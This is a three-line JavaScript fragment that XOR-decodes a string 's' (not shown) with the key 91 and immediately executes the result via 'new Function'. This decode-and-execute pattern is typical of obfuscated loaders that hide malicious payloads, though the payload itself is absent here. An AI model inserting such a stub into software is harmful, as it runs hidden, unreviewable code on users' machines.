let o = "";
for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ 91);
new Function(o)();
